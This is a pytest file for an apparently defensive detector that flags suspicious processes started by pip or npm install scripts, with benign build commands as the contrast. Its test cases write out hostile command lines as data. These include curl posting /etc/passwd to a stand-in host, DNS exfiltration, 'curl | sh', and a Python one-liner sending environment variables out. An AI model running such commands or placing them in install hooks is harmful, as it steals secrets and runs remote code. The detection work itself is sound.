"""What install scripts may do and what not."""

from __future__ import annotations

import pytest

from periderm.engines.runtime import run_example
from periderm.engines.runtime.detectors.install_hook import DETECTOR
from periderm.engines.runtime.scene import runs, scene
from periderm.model.event import Event
from periderm.model.severity import Severity

PIP = runs(2, 1, "/usr/bin/python3.11", "/usr/bin/python3", "/usr/bin/pip3", "install", "x")
NPM = runs(2, 1, "/usr/bin/node", "node", "/usr/bin/npm", "ci")


@pytest.mark.parametrize("manager", [PIP, NPM], ids=["pip", "npm"])
@pytest.mark.parametrize(
    "line",
    [
        ("/usr/bin/curl", "curl", "-X", "POST", "--data", "@/etc/passwd", "https://h.example"),
        ("/usr/bin/wget", "wget", "http://198.51.100.4/x"),
        ("/usr/bin/nslookup", "nslookup", "data.h.example"),
        ("/usr/bin/dash", "sh", "-c", "curl h.example | sh"),
        ("/usr/bin/python3", "python3", "-c", "import os,urllib.request as u;u.urlopen('http://h',str(os.environ).encode())"),
    ],
    ids=lambda line: line[1],
)
def test_what_no_package_needs(manager: Event, line: tuple[str, ...]) -> None:
    """Below either manager, in any depth."""
    below = runs(3, 2, "/usr/bin/dash", "sh", "-c", "node x.js")
    assert [a.severity for a in run_example(DETECTOR, scene(manager, below, runs(4, 3, *line)))] == [Severity.HIGH]


@pytest.mark.parametrize(
    "line",
    [
        ("/usr/bin/git", "git", "clone", "https://h.example"),
        ("/usr/bin/make", "make"),
        ("/usr/bin/dash", "sh", "-c", "node-gyp rebuild"),
        ("/usr/bin/python3", "python3", "-c", "import sys; print(sys.prefix)"),
        ("/usr/bin/cmake", "cmake", "."),
    ],
    ids=lambda line: line[1],
)
def test_what_packages_do(line: tuple[str, ...]) -> None:
    """Building."""
    for manager in (PIP, NPM):
        assert run_example(DETECTOR, scene(manager, runs(3, 2, *line))) == []


def test_outside_of_an_installation() -> None:
    """The same tool by itself is no matter of this detector."""
    assert run_example(DETECTOR, scene(runs(3, 1, "/usr/bin/nslookup", "nslookup", "h.example"))) == []
